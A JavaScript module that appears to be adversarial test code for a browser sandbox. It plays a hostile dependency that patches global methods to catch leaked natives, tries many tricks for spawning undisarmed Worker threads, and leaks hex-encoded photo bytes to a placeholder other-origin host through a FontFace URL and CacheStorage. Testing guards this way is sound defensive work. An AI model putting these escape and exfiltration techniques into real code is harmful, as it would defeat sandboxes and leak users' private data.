/**
 * What a dependency does that fights: it attacks our guards themselves. Put into the model's runtime,
 * into the script of its threads, and handed to Python; not shipped. `PORT` is another origin's.
 */

/**
 * @param {string} where it runs
 * @param {string} me the address of the script that it runs in
 * @param {(told: object) => void} say
 * @returns {{attack: (when: string, bytes: Uint8Array) => Promise<void>, listen: (worker: Worker, id: string) => Worker, learn: (address: string) => void}}
 */
export function makeFighter(where, me, say) {
  const scope = /** @type {any} */ (globalThis);
  const own = `${scope.origin}/probe?leak=`;
  const other = "http://127.0.0.1:PORT/probe?leak=";
  const { apply, construct, defineProperty, getOwnPropertyDescriptor, getPrototypeOf, ownKeys } =
    Reflect;
  const later = scope.setTimeout.bind(scope);
  /** Natives that a guard gave away, by their names. @type {Map<string, Function>} */
  const caught = new Map();
  /** Every address of a script that anybody named. @type {Set<string>} */
  const addresses = new Set([me]);
  /** @type {Worker[]} */
  const threads = [];

  /** @param {any} one */
  function look(one) {
    if (typeof one === "string" && one.startsWith("blob:")) addresses.add(one);
    if (typeof one !== "function" || one === scope.Worker) return;
    const name = String(getOwnPropertyDescriptor(one, "name")?.value);
    if (/^(bound )?(createObjectURL|Worker|FontFace)$/.test(name)) caught.set(name, one);
  }

  /** What these use is watched itself. */
  let isLooking = false;
  /** @param {() => void} work */
  function unwatched(work) {
    if (isLooking) return;
    isLooking = true;
    try {
      work();
    } finally {
      isLooking = false;
    }
  }

  /** Every method of every global and prototype: who is called with what? */
  function replaceEverything() {
    const owners = [];
    for (const name of ownKeys(scope)) {
      // What the runtimes do thousands of times, and no guard needs.
      if (/.Array$|^(DataView|Promise)$/.test(String(name))) continue;
      const value = getOwnPropertyDescriptor(scope, name)?.value;
      if (typeof value === "function") owners.push(value, value.prototype);
      else if (["JSON", "Reflect"].includes(String(name))) owners.push(value);
    }
    for (const owner of owners) {
      for (const key of owner ? ownKeys(owner) : []) {
        const known = getOwnPropertyDescriptor(owner, key);
        if (typeof known?.value !== "function" || key === "constructor" || !known.writable)
          continue;
        const real = known.value;
        const spy = /** @this {any} */ function (/** @type {any[]} */ ...given) {
          const answer = new.target ? construct(real, given) : apply(real, this, given);
          if (!isLooking) {
            unwatched(() => {
              look(this);
              look(answer);
              for (let index = 0; index < given.length; index += 1) look(given[index]);
            });
          }
          return answer;
        };
        try {
          defineProperty(spy, "name", { value: real.name });
          defineProperty(owner, key, { ...known, value: spy });
        } catch {
          // Fixed: as it should be.
        }
      }
    }
  }

  /** All that can be reached from the global scope: what is there that could start a script? */
  function search() {
    const seen = new Set();
    const todo = [scope, ...threads];
    while (todo.length > 0 && seen.size < 20_000) {
      const one = todo.pop();
      if ((typeof one !== "object" && typeof one !== "function") || one === null || seen.has(one))
        continue;
      if (ArrayBuffer.isView(one)) continue;
      seen.add(one);
      look(one);
      try {
        todo.push(getPrototypeOf(one));
        for (const key of ownKeys(one)) {
          const { value, get, set } = getOwnPropertyDescriptor(one, key) ?? {};
          todo.push(value, get, set);
        }
      } catch {
        // Not to be looked into.
      }
    }
  }

  /** @param {Worker} worker @param {string} id */
  function listen(worker, id) {
    threads.push(worker);
    worker.onerror = (event) => event.preventDefault?.();
    worker.addEventListener("message", ({ data }) => {
      if (data?.fight) say({ where: `${where}, ${id}`, ...data.fight });
    });
    return worker;
  }

  /** An address that says one thing first and another then. @param {string[]} said */
  const lying = (...said) => {
    let reads = 0;
    return { toString: () => said[Math.min(reads++, said.length - 1)] };
  };

  /** Ways to a thread that nobody disarmed. @param {string} script of ours, as text @returns {Record<string, () => any>} */
  function ways(script) {
    const Maker = scope.Worker;
    const known = [...addresses];
    const blob = () => new Blob([script], { type: "text/javascript" });
    const made = () => {
      for (const make of [
        scope.URL.createObjectURL,
        scope.webkitURL?.createObjectURL,
        caught.get("createObjectURL"),
        caught.get("bound createObjectURL"),
      ])
        if (typeof make === "function") return make.call(scope.URL, blob());
      throw new Error("no address for a script");
    };
    return {
      "own-script": () => new Maker(made(), { type: "module" }),
      "data-script": () =>
        new Maker(`data:text/javascript,${encodeURIComponent(script)}`, { type: "module" }),
      "host-script": () => new Maker(own + "host-script", { type: "module" }),
      "my-own-address": () => new Maker(me, { type: "module" }),
      classic: () => new Maker(me, { type: "classic" }),
      "lying-address": () => new Maker(lying(known[known.length - 1], me), { type: "module" }),
      "lying-late": () =>
        new Maker(lying(known[known.length - 1], known[known.length - 1], me), { type: "module" }),
      "by-reflect": () =>
        Reflect.construct(Maker, [me, { type: "module" }], class extends Maker {}),
      "by-constructor": () => new Maker.prototype.constructor(me, { type: "module" }),
      "by-instance": () => new threads[0].constructor(me, { type: "module" }),
      "by-prototype": () =>
        new (getPrototypeOf(getPrototypeOf(threads[0])).constructor)(me, { type: "module" }),
      caught: () =>
        new (caught.get("Worker") ?? caught.get("bound Worker"))(me, { type: "module" }),
      imported: () => import(made()),
      "data-import": () => import(`data:text/javascript,${encodeURIComponent(script)}`),
      evaluated: () => new Function(script)(),
      again: () => (
        delete scope.Worker,
        defineProperty(scope, "Worker", { value: caught.get("Worker") }),
        new scope.Worker(me)
      ),
    };
  }

  return {
    listen,
    learn: (/** @type {string} */ address) => void addresses.add(address),
    async attack(when, bytes) {
      const hex = Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
      /** @type {Record<string, string>} */
      const ends = {};
      // A thread that nobody disarmed need not fight.
      const here = found(scope);
      if (here.length > 0) {
        await leave(scope, other, hex).catch(() => {});
        return say({ where, when, hex, ends, escaped: here, caught: [] });
      }
      if (when === "imported") replaceEverything();
      // Slow, and what was there at first and holds no photo is there later.
      if (when === "imported" || when === "holding the photo") unwatched(search);
      const script = `
        postMessage({fight: {when: "${when}", hex: "${hex}", ends: {}, caught: [], escaped: (${found})(globalThis)}});
        (${leave})(globalThis, "${other}", "${hex}").catch(() => {});
        //# sourceMappingURL=${own}source-map-${hex}
      `;
      for (const [id, way] of Object.entries(ways(script))) {
        try {
          const made = await Promise.race([
            way(),
            new Promise((resolve) => later(resolve, 1500, "silent")),
          ]);
          const isThread = typeof made?.postMessage === "function";
          if (isThread) listen(made, id);
          const isNothing = made instanceof EventTarget && !isThread;
          ends[id] = made === "silent" ? "silent" : isNothing ? "no thread" : "made";
        } catch (error) {
          ends[id] =
            `${/** @type {Error} */ (error).name}: ${/** @type {Error} */ (error).message}`.slice(
              0,
              120,
            );
        }
      }
      say({ where, when, hex, ends, escaped: [], caught: [...caught.keys()] });
    },
  };
}

/** What only a thread has that was not disarmed. Closes over nothing. @param {any} scope */
function found(scope) {
  const names = ["caches", "indexedDB", "FontFace", "BroadcastChannel"];
  return names.filter((name) => scope[name] !== undefined);
}

/** Leave the pixels wherever this thread can. Closes over nothing. @param {any} scope @param {string} other @param {string} hex */
async function leave(scope, other, hex) {
  const cache = await scope.caches?.open("stayput-planted");
  await cache?.put(`/planted?leak=${hex}`, new scope.Response(hex));
  if (scope.FontFace) await new scope.FontFace("leak", `url(${other}${hex})`).load();
}
